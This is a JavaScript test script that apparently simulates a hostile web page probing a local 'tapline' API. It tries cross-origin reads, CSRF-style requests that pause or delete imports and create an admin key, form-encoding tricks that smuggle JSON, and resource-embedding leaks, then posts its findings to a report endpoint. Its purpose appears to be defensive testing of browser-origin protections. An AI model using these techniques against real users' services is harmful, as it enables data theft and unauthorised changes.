// What a hostile page tries. It knows the API and the names of what is there.
// BASE is the origin that it attacks, empty where it has made that origin its own.
const findings = [];
const pause = '/v1/imports/customers/pause';
const apply = '/v1/apply?offline=true';
const account = JSON.stringify({documents: [{
  apiVersion: 'tapline.dev/v1alpha1', kind: 'CleverTapAccount', metadata: {name: 'mine'},
  spec: {region: 'in1', accountId: 'ref+env://CT_ID', passcode: 'ref+env://CT_PASS'},
}]});
const sleep = ms => new Promise(done => setTimeout(done, ms));
const within = (ms, promise) => Promise.race([promise, sleep(ms)]);
const found = (what, text) => { if (text) findings.push(what + ': ' + text.slice(0, 300)); };

async function reads() {
  for (const path of ['/v1/imports', '/v1/imports/customers', '/v1/connections', '/v1/accounts', '/v1/caller', '/v1/audit', '/v1/rejects?import=customers']) {
    for (const mode of ['cors', 'no-cors']) {
      for (const credentials of ['include', 'omit']) {
        try {
          const answer = await within(5000, fetch(BASE + path, {mode, credentials}));
          if (answer && answer.status === 200) found('read ' + path, await answer.text());
        } catch { /* refused, as it should be */ }
      }
    }
  }
}

async function changes() {
  const requests = [
    ['POST', pause, ''], ['POST', apply, account], ['DELETE', '/v1/imports/customers', ''], ['POST', '/v1/keys', '{"name":"mine","role":"admin"}'],
  ];
  for (const [method, path, body] of requests) {
    for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded', '']) {
      for (const mode of ['cors', 'no-cors']) {
        const content = type ? new Blob([body], {type}) : new TextEncoder().encode(body);
        const headers = type && mode === 'cors' ? {'Content-Type': type} : {};
        try {
          const answer = await within(5000, fetch(BASE + path, {method, mode, credentials: 'include', headers, body: method === 'DELETE' ? undefined : content}));
          if (answer && answer.status >= 200 && answer.status < 300) found('changed ' + path, answer.status + ' ' + await answer.text());
        } catch { /* refused */ }
      }
    }
    try { navigator.sendBeacon(BASE + path, new Blob([body], {type: 'application/json'})); } catch { /* refused */ }
    navigator.sendBeacon(BASE + path, body);
  }
}

// Elements that need no permission to send a request to another site.
async function elements() {
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    for (const path of [pause, apply]) {
      const frame = document.createElement('iframe');
      frame.name = 'frame' + Math.random();
      document.body.append(frame);
      const form = Object.assign(document.createElement('form'), {action: BASE + path, method: 'POST', enctype, target: frame.name});
      // With text/plain the body is name=value: JSON, if the = lands inside a text.
      const input = Object.assign(document.createElement('input'), {name: account.slice(0, -1) + ',"x":"', value: '"}'});
      form.append(input);
      document.body.append(form);
      form.submit();
      await sleep(300);
    }
  }
  window.stolen = undefined;
  for (const path of ['/v1/imports', '/openapi.json']) {
    for (const tag of ['script', 'img', 'iframe', 'embed', 'video']) {
      document.body.append(Object.assign(document.createElement(tag), {src: BASE + path}));
    }
    document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: BASE + path}));
  }
  const popup = window.open(BASE + '/v1/imports');
  await sleep(2000);
  for (const frame of document.querySelectorAll('iframe')) {
    try { const text = frame.contentDocument.body.innerText; if (text.includes('"items"')) found('a frame', text); } catch { /* another origin's */ }
  }
  try { const text = popup.document.body.innerText; if (text.includes('"items"')) found('a window', text); } catch { /* another origin's */ }
  found('a script', window.stolen);
}

(async () => {
  if (SIGN_IN) { // as the person is anyway
    window.open(SIGN_IN);
    await within(30000, (async () => { while (!(await (await fetch('/signed-in')).json())) await sleep(200); })());
  }
  await sleep(500); // until the name has been rebound
  await reads();
  await changes();
  await elements();
  await fetch(REPORT, {method: 'POST', mode: 'no-cors', body: JSON.stringify(findings)});
})();
